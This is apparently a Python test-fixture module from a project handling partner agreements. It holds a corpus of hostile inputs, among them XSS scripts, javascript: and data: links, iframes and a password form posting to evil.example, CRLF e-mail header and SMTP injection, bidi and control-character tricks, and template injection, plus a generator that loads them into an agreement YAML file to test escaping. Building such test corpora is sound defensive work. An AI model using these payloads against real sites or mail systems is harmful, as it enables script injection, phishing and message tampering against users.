"""A corpus of hostile text, for every field a partner or an agreement file can fill.

Each payload tries one way of turning text into something live where it is shown: markup
or script in an HTML page or e-mail, a link, a remote image or a raw HTML block in a
markdown artifact, a fence closed early, a header injected into an e-mail, a line of a
log or a table broken, text reversed on screen. Scripts only ever set `window.__pwned`
or open a dialog, and every outside address is under `evil.example` (RFC 2606, never
resolved), so a test can tell at once whether anything came alive.

`PAYLOADS` holds them all; `agreement_safe()` the ones an agreement file may hold (the
format refuses control characters, line breaks and tabs included, in its texts: a
payload carrying them is tested in partner fields, and its refusal is tested itself).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

EVIL = "evil.example"  # every outside address a payload names
MARKER = "__pwned"  # what every script payload sets on `window`
CONTROL = re.compile(r"[\x00-\x1f\x7f]")  # what agreement-file texts refuse (core.parse)


@dataclass(frozen=True)
class Payload:
    name: str
    text: str

    @property
    def agreement_safe(self) -> bool:
        return not CONTROL.search(self.text) and self.text.strip() == self.text


def _p(name: str, text: str) -> Payload:
    return Payload(name, text)


PAYLOADS: tuple[Payload, ...] = (
    # --- HTML that runs script ------------------------------------------------------------
    _p("script", "<script>window.__pwned=1;alert('script')</script>"),
    _p("img-onerror", '<img src=x onerror="window.__pwned=2;alert(2)">'),
    _p("svg-onload", "<svg onload=\"window.__pwned=3\"><circle r=5 /></svg>"),
    _p("svg-script", "<svg><script>window.__pwned=4</script></svg>"),
    _p("attr-breakout", '"><script>window.__pwned=5</script><input value="'),
    _p("single-quote-attr", "' autofocus onfocus='window.__pwned=6' x='"),
    _p("details-ontoggle", '<details open ontoggle="window.__pwned=7">Chi tiết</details>'),
    _p("body-onload", "<body onload=window.__pwned=8>"),
    _p("close-pre-textarea", "</pre></textarea></title><script>window.__pwned=9</script>"),
    _p("mutation-xss",
       "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=10>"),
    _p("comment-swallow", "<!-- <img src=x onerror=window.__pwned=11> -->--><b>đậm</b>"),
    _p("entity-pre-escaped", "&lt;script&gt;window.__pwned=12&lt;/script&gt; &amp;amp;"),
    _p("template-injection", "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${7*7} #{7*7}"),
    # --- links: javascript:, data:, remote ------------------------------------------------
    _p("js-link-html", '<a href="javascript:window.__pwned=13">Bấm vào đây</a>'),
    _p("js-link-markdown", "[Xem báo cáo](javascript:window.__pwned=14)"),
    _p("js-link-zero-width", "[x](java\u200bscript:window.__pwned=15) java\u200bscript:alert(15)"),
    _p("data-link",
       "[tệp](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xNjwvc2NyaXB0Pg==)"),
    _p("markdown-link", "[Báo cáo đầy đủ](https://evil.example/phish?src=md)"),
    _p("markdown-ref-link", "[Báo cáo][1] [1]: https://evil.example/ref"),
    _p("markdown-image", "![pixel](https://evil.example/p.png)"),
    _p("autolink", "<https://evil.example/autolink>"),
    _p("autolink-email", "<mailto:phish@evil.example>"),
    _p("bare-url", "Xem thêm https://evil.example/bare tại đây"),
    _p("bare-www", "Tải về www.evil.example/www"),
    _p("escaped-url", "https\\://evil\\.example/escaped"),
    # --- raw HTML that loads or navigates ------------------------------------------------
    _p("iframe", '<iframe src="https://evil.example/frame"></iframe>'),
    _p("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.__pwned=17</script>\"></iframe>"),
    _p("form", '<form action="https://evil.example/steal"><input name=mk>'
               "<button>Gửi mật khẩu</button></form>"),
    _p("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    _p("base-href", '<base href="https://evil.example/">'),
    _p("link-stylesheet", '<link rel=stylesheet href="https://evil.example/s.css">'),
    _p("style-url", "<style>*{background:url(https://evil.example/css.png)}</style>"),
    _p("html-table", '<table><tr><td style="background:url(https://evil.example/td.png)">'
                     "ô</td></tr></table>"),
    _p("object-embed", '<object data="https://evil.example/o.swf"></object>'
                       '<embed src="https://evil.example/e.swf">'),
    _p("img-srcset", '<img srcset="https://evil.example/s.png 1x" alt="">'),
    _p("video-poster", '<video poster="https://evil.example/v.png"></video>'),
    # --- markdown structure ---------------------------------------------------------------
    _p("markdown-table", "| Cột | Giá trị |\n|---|---|\n| ![x](https://evil.example/t.png) "
                         "| [y](https://evil.example/t) |"),
    _p("markdown-table-one-line", "| a | b | |---|---| | ![x](https://evil.example/t1.png) |"),
    _p("fence-3", "```\n![x](https://evil.example/f3.png)\n```"),
    _p("fence-5-inline", "````` ``` ````` <img src=https://evil.example/f5.png>"),
    _p("fence-10", "``````````\n[x](https://evil.example/f10)\n``````````"),
    _p("fence-tilde", "~~~\n<img src=https://evil.example/tilde.png>\n~~~"),
    _p("heading-html-block", "# Tiêu đề\n\n<div><img src=https://evil.example/h.png></div>"),
    # --- text that lies about itself -----------------------------------------------------
    _p("bidi-override", "Báo cáo \u202Efdp.exe\u202C và \u2067\u202Eevil\u2069"),
    _p("zero-width", "Lê\u200b Thị\u200c Hoa\u200d\u2060\ufeff"),
    _p("line-separators", "Tên\u2028Bcc: nel@evil.example\u2029X-Injected: u2029\x85Y: nel"),
    _p("control-chars", "a\x00b\x07c\x1b[31mđỏ\x1b[0m\x08\x7f\x0b\x0c"),
    _p("crlf-header", "Lê Thị Hoa\r\nBcc: victim@evil.example\r\nX-Injected: crlf"),
    _p("crlf-body",
       "dòng 1\r\n\r\n<script>window.__pwned=18</script>\r\n.\r\nMAIL FROM:<x@evil.example>"),
    _p("lf-header", "Lê Thị Hoa\nX-Injected: lf\n\nthân thư"),
    _p("encoded-word", "=?utf-8?b?WC1JbmplY3RlZDogZW5jb2RlZA==?= =?utf-8?q?=0D=0AX-Injected:_q?="),
    _p("url-encoded-crlf", "x%0d%0aX-Injected:%20pct"),
    _p("long-line", "Đ" * 6000 + ' <img src=x onerror="window.__pwned=19">'),
    _p("long-word-url", "https://evil.example/" + "a" * 3000),
)

# Every header name a message of ours carries (anything else was injected)
MAIL_HEADERS = frozenset({"from", "to", "subject", "message-id", "date", "mime-version",
                          "content-type", "content-transfer-encoding"})


def agreement_safe() -> list[Payload]:
    return [p for p in PAYLOADS if p.agreement_safe]


def by_name(name: str) -> Payload:
    return next(p for p in PAYLOADS if p.name == name)


assert len({p.name for p in PAYLOADS}) == len(PAYLOADS), "payload names must be unique"


def _q(text: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's: every character survives)."""
    import json

    return json.dumps(text, ensure_ascii=True)


PARTNERS = ("p1", "p2", "p3", "p4", "p5")


def agreement_yaml(code: str = "HOSTILE-2022") -> tuple[bytes, dict[str, str]]:
    """An agreement whose every free text (title, party names and short names, contact
    names, commitment and report titles, indicator labels) is a payload, the agreement-safe
    ones used in turn so that each appears at least once. Also what was put where."""
    texts = agreement_safe()
    used: dict[str, str] = {}
    counter = iter(range(10_000))

    def text(slot: str) -> str:
        p = texts[next(counter) % len(texts)]
        used[slot] = p.name
        return _q(p.text)

    lines = ["version: 1", f"code: {code}", f"title: {text('title')}", "signed_on: 2022-05-18",
             "period: {start: 2022-01-01, end: 2023-12-31}", "convener: hkh",
             "supervisor: sup", "parties:"]

    def party(key: str, roles: tuple[str, ...]) -> list[str]:
        out = [f"  - id: {key}", f"    name: {text(key + '.name')}",
               f"    short: {text(key + '.short')}", "    contacts:"]
        for i, role in enumerate(roles):
            out += [f"      - name: {text(f'{key}.{role}{i}')}", f"        role: {role}",
                    f"        email: {role}{i}.{key}@hostile.example"]
        return out

    lines += party("hkh", ("head", "coordinator", "coordinator", "focal"))
    for key in PARTNERS:
        lines += party(key, ("focal", "head"))
    lines += ["observers:", *party("sup", ("focal",))]
    lines.append("commitments:")
    commitments = ("c-text", "c-two", "c-three", "c-four", "c-five", "c-six")
    for n, key in enumerate(commitments):
        lines += [f"  - id: {key}", f"    title: {text(key + '.title')}", "    lead: hkh",
                  f"    support: [{', '.join(PARTNERS)}]", "    reports:",
                  "      - every: year", '        due: "12-15"', "        from: all",
                  f"        title: {text(key + '.report')}", "    indicators:",
                  f"      - {{id: {key}-so, label: {text(key + '.count')}, kind: count}}"]
        if n == 0:
            lines.append(f"      - {{id: ghi-chu, label: {text(key + '.text')}, kind: text}}")
    while len(set(used.values())) < len(texts):  # each payload somewhere: more labels
        k = len(used)
        lines.append(f"      - {{id: extra-{k}, label: {text(f'extra-{k}')}, kind: count}}")
    lines += ["reviews:", "  every_years: 1", '  due: "12-20"', "  rotation: [p1, p2]"]
    return ("\n".join(lines) + "\n").encode(), used
